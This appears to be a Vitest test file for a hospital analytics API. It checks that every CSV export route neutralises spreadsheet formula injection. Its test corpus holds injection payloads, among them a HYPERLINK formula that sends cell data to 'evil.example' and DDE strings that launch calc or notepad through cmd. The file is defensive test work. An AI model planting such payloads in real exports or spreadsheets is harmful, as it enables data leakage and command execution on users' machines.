/**
 * A formula corpus tried on every CSV export route: department names and a quarantined record that a spreadsheet would
 * run as formulas (DDE, HYPERLINK, @, +, -, a leading tab) come out as text, and plain numbers stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../functions/api/app.ts';
import { inertText } from '../../functions/api/export.ts';
import { parseCsv } from '../../functions/lake/csv.ts';
import { inertCsvText } from '../../web/src/lib/csv.ts';
import { tokenFor, withToken } from '../support/access.ts';
import { EXPLORE_ROWS, exploreHospital } from '../support/explore-hospital.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C notepad\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

let h: Awaited<ReturnType<typeof exploreHospital>>;
let app: ReturnType<typeof createApp>;
let analyst: string;
beforeAll(async () => {
  const departments = EXPLORE_ROWS.departments!['2023-01-01']!.map((d, i) => ({ ...d, name_zh: FORMULAS[i * 2]!, name_en: FORMULAS[i * 2 + 1]! }));
  h = await exploreHospital({
    replace: { departments: { '2023-01-01': departments } },
    landing: { 'landing/bed_census/dt=2024-03-10/hostile.csv': `census_date,ward_id,campus_id,department_id,open_beds,occupied_beds,admissions,discharges\n${FORMULAS[1]},W1,C1,D1,10,9,2,0\n` },
    rejectsAllowed: true,
  });
  app = createApp({ snapshots: h.rt.snapshots, store: h.rt.store, engine: h.rt.engine, drgRules: h.rt.drgRules, targets: h.rt.targets, clock: h.rt.clock, version: 't', access: h.rt.access });
  analyst = await tokenFor(h.rt, { sub: 'u-zhao', name: '赵分析', roles: ['analyst'] });
  await import('../../functions/pipeline/aggregate.ts').then((m) => m.aggregateNight(h.rt.aggregateDeps, '2024-03-10'));
});
afterAll(async () => h?.dispose());

const ROUTES = [
  '/api/explore?kpi=medical_revenue&dim=department&period=month&date=2024-03-10&format=csv',
  '/api/explore/detail?kpi=outpatient_visits&period=month&date=2024-03-10&format=csv',
  '/api/explore/charges?from=2024-03-01&to=2024-03-10&by=department&format=csv',
  '/api/explore/drg?level=department&from=2024-01-01&to=2024-03-10&format=csv',
  '/api/explore/drg?level=case&from=2024-01-01&to=2024-03-10&format=csv',
  '/api/quality/rejects?table=bed_census&date=2024-03-10&format=csv',
];

describe('CSV exports neutralise formulas', () => {
  it('the server and the browser export (budget lines) treat the corpus alike', () => {
    for (const f of FORMULAS) {
      expect(inertText(f), f).toBe(`'${f}`);
      expect(inertCsvText(f), f).toBe(`'${f}`);
    }
    for (const plain of ['-12.50', '+3', '0.9284', '院区 =1', 'D1', '']) {
      expect(inertText(plain), plain).toBe(plain);
      expect(inertCsvText(plain), plain).toBe(plain);
    }
  });

  for (const route of ROUTES) {
    it(route.split('?')[0]! + ' ' + (new URLSearchParams(route.split('?')[1]).get('level') ?? new URLSearchParams(route.split('?')[1]).get('by') ?? ''), async () => {
      const res = await app.request(route, withToken(analyst));
      expect(res.status, await res.clone().text()).toBe(200);
      const text = await res.text();
      const cells = [...parseCsv(text.replace(/^\ufeff/, ''))].flatMap((r) => r.fields);
      const live = cells.filter((v) => /^[=+\-@\t\r]/.test(v) && !/^[+-]?\d+(\.\d+)?$/.test(v));
      expect(live, `live formulas in ${route}`).toEqual([]);
      // The hostile text did reach the export (as text), where the route shows names or raw records.
      if (!route.includes('level=case') && !route.includes('/detail')) expect(cells.some((v) => FORMULAS.some((f) => v.startsWith(`'${f}`))), route).toBe(true);
    });
  }
});
